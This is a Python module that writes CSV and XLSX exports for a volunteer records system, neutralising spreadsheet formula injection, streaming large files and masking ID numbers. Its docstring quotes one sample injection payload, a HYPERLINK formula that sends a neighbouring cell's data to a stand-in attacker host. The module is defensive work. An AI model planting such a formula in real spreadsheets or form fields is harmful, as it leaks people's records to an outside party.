"""CSV and XLSX files that are safe to open: the one cell writer every export goes through.

A spreadsheet reads a cell that starts with = + - @ (or a tab or carriage return, or the
full-width ＝＋－＠ that Chinese input methods type, also after leading spaces) as a formula:
a volunteer who joins as `=HYPERLINK("http://evil.example?"&A2, "点击")` would otherwise be a
live link in the organiser's records export, carrying the row beside it. OWASP's advice
(CSV Injection) is followed here:

- CSV: such text gets a leading apostrophe, which spreadsheets show as text and hide;
- XLSX: every text is an explicit string cell (openpyxl would make `"=..."` a formula), and
  formula-like text also gets the "quote prefix" style, so that editing the cell in Excel
  keeps it text. The value itself is unchanged: it reads back exactly as typed.

Numbers stay numbers, in both.

Lists that can be long (the cases: a million rows) are streamed instead of built in memory:
`csv_stream` yields the CSV in chunks as the rows come, `xlsx_stream` writes them with
openpyxl's write-only mode to a temporary file and yields that in chunks. The same cell rules.
"""

import contextlib
import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, time
from numbers import Number
from urllib.parse import quote

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

# Values a spreadsheet keeps as themselves (numbers, dates); everything else is text.
NATIVE = (Number, date, time)

# What a spreadsheet takes for the start of a formula (or a DDE command): ASCII and
# full-width forms. Tab and CR count on their own too (OWASP).
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
CONTROL_STARTS = ("\t", "\r", "\n")
# First characters after which text may still be formula-like: the starts themselves and
# every character str.lstrip() would strip (tab, CR and LF among them).
MAYBE_FORMULA_STARTS = FORMULA_STARTS | {chr(c) for c in range(0x3001) if chr(c).isspace()}


def formula_like(value) -> bool:
    """True when a spreadsheet could read this text as a formula."""
    if not isinstance(value, str) or not value:
        return False
    first = value[0]
    if first in FORMULA_STARTS:
        return True
    if not first.isspace():  # tab, CR and LF are spaces too: the common case ends here
        return False
    if value.startswith(CONTROL_STARTS):
        return True
    stripped = value.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def csv_cell(value):
    """A value as it goes into a CSV cell: formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, Number):
        return value
    text = str(value)
    return "'" + text if formula_like(text) else text


def to_csv(header: Sequence, rows: Iterable[Sequence]) -> bytes:
    """The whole CSV at once (short lists): csv_stream's chunks joined, so both are one rule."""
    return b"".join(csv_stream(header, rows))


# A streamed file goes out in pieces of about this size: few enough writes to the socket,
# small enough that the memory of one is nothing.
CHUNK = 64 * 1024
# The rows of one sheet that Excel opens (header included); a longer file goes on in more.
MAX_SHEET_ROWS = 1_048_576


def csv_stream(header: Sequence, rows: Iterable[Sequence]) -> Iterator[bytes]:
    """A CSV in chunks of about CHUNK bytes as the rows come: utf-8 with a BOM first (Excel on
    a duty-desk PC opens Chinese text correctly only then), every cell through csv_cell."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([csv_cell(str(c)) for c in header])
    yield buf.getvalue().encode("utf-8-sig")
    buf.seek(0)
    buf.truncate()
    writerow, cell, risky = writer.writerow, csv_cell, MAYBE_FORMULA_STARTS
    for row in rows:
        # csv_cell for each value, with its commonest answers written out in line (a call
        # per cell was a third of a million-row file's time): text whose first character
        # cannot start a formula, ints, and None (which the csv module writes as "") go as
        # they are; anything else through csv_cell itself.
        writerow(
            [
                v
                if (v.__class__ is str and v[:1] not in risky) or v is None or v.__class__ is int
                else cell(v)
                for v in row
            ]
        )
        if buf.tell() >= CHUNK:
            yield buf.getvalue().encode("utf-8")
            buf.seek(0)
            buf.truncate()
    if buf.tell():
        yield buf.getvalue().encode("utf-8")


def attachment(filename: str) -> str:
    """A Content-Disposition that downloads under this name: an ASCII fallback and the name
    itself encoded as RFC 5987/6266 say (browsers take filename*)."""
    fallback = filename.encode("ascii", "replace").decode().replace("?", "_").replace('"', "_")
    return f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename)}"


def _put(sheet, row: int, column: int, value):
    cell = sheet.cell(row=row, column=column)
    if value is None or value == "":
        return cell
    if isinstance(value, NATIVE):
        cell.value = value
        return cell
    # Control characters (a bell typed into the public join form) are not allowed in the
    # file's XML: openpyxl refuses the whole sheet. They carry nothing a reader needs.
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell.value = text
    # Set after the value: openpyxl's own guess makes "=..." a formula ('f').
    cell.data_type = "s"
    if formula_like(text):
        cell.quotePrefix = True
    return cell


def to_xlsx(
    header: Sequence, rows: Iterable[Sequence], title: str, widths: Sequence[int] = ()
) -> bytes:
    """One sheet: a bold, frozen header row, then the rows; text always as text."""
    book = Workbook()
    sheet = book.active
    sheet.title = _sheet_title(title)
    bold = Font(bold=True)
    for column, label in enumerate(header, start=1):
        _put(sheet, 1, column, str(label)).font = bold
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            _put(sheet, number, column, value)
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    sheet.freeze_panes = "A2"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _streamed_cell(sheet, value, date_format: str):
    """A value as write-only mode takes it: numbers as themselves, dates as date cells, text
    as text.

    Text that openpyxl would take for something else (a formula, an error code like #REF!)
    goes in as an explicit string cell, with the quote prefix when formula-like, as _put
    does; any other text openpyxl itself stores as a string (inline) and is passed as it is,
    since a cell object for each of a million texts costs more than reading the rows."""
    if value is None or value == "":
        return None
    if isinstance(value, (date, time)):  # a datetime is a date
        cell = WriteOnlyCell(sheet, value)
        cell.number_format = date_format
        return cell
    if isinstance(value, Number):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    if not (formula_like(text) or text in ERROR_CODES):
        return text
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    cell.quotePrefix = formula_like(text)
    return cell


def xlsx_stream(
    header: Sequence,
    rows: Iterable[Sequence],
    title: str,
    widths: Sequence[int] = (),
    date_format: str = "yyyy-mm-dd hh:mm",
) -> Iterator[bytes]:
    """The sheet of to_xlsx (bold, frozen header; text always text), for any number of rows:
    openpyxl's write-only mode writes the rows as they come to a temporary file, then the
    finished file is read out in chunks of CHUNK bytes. The file is unlinked from the start
    (TemporaryFile) and gone when the last chunk is out or the download stops. Dates and
    times are date cells shown with date_format. Past MAX_SHEET_ROWS the rows go on in a
    second sheet ("Title (2)"), each with the header."""
    book = Workbook(write_only=True)
    bold = Font(bold=True)

    def new_sheet(number: int):
        """A sheet with the widths, the frozen bold header; the second is "Title (2)"."""
        name = _sheet_title(title) if number == 1 else f"{_sheet_title(title)[:26]} ({number})"
        sheet = book.create_sheet(name)
        for column, width in enumerate(widths, start=1):
            sheet.column_dimensions[get_column_letter(column)].width = width
        sheet.freeze_panes = "A2"
        labels = []
        for label in header:
            cell = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("", str(label)))
            cell.data_type = "s"
            cell.font = bold
            labels.append(cell)
        sheet.append(labels)
        return sheet

    with tempfile.TemporaryFile(suffix=".xlsx") as out:
        try:
            sheets, sheet, filled = 1, new_sheet(1), 1
            for row in rows:
                if filled == MAX_SHEET_ROWS:  # Excel holds no more: go on in another sheet
                    sheets += 1
                    sheet, filled = new_sheet(sheets), 1
                sheet.append([_streamed_cell(sheet, v, date_format) for v in row])
                filled += 1
        except BaseException:
            # Saving is what removes openpyxl's own temporary copy of the sheet: done also
            # when reading the rows failed, then the error goes on.
            with contextlib.suppress(Exception):
                book.save(out)
            raise
        book.save(out)
        out.seek(0)
        while chunk := out.read(CHUNK):
            yield chunk


def _sheet_title(title) -> str:
    # Excel refuses sheet names over 31 characters or with : \ / ? * [ ]
    return "".join(ch for ch in str(title) if ch not in ":\\/?*[]")[:31] or "Sheet"


def mask_id_number(number: str | None) -> str:
    """1101**********1234: enough to tell records apart, not the birth date or the whole
    number (PIPL). At most a quarter of the characters show at each end, never more than 4."""
    if not number:
        return ""
    text = str(number)
    keep = min(4, len(text) // 4)
    if keep == 0:
        return "*" * len(text)
    return text[:keep] + "*" * (len(text) - 2 * keep) + text[-keep:]
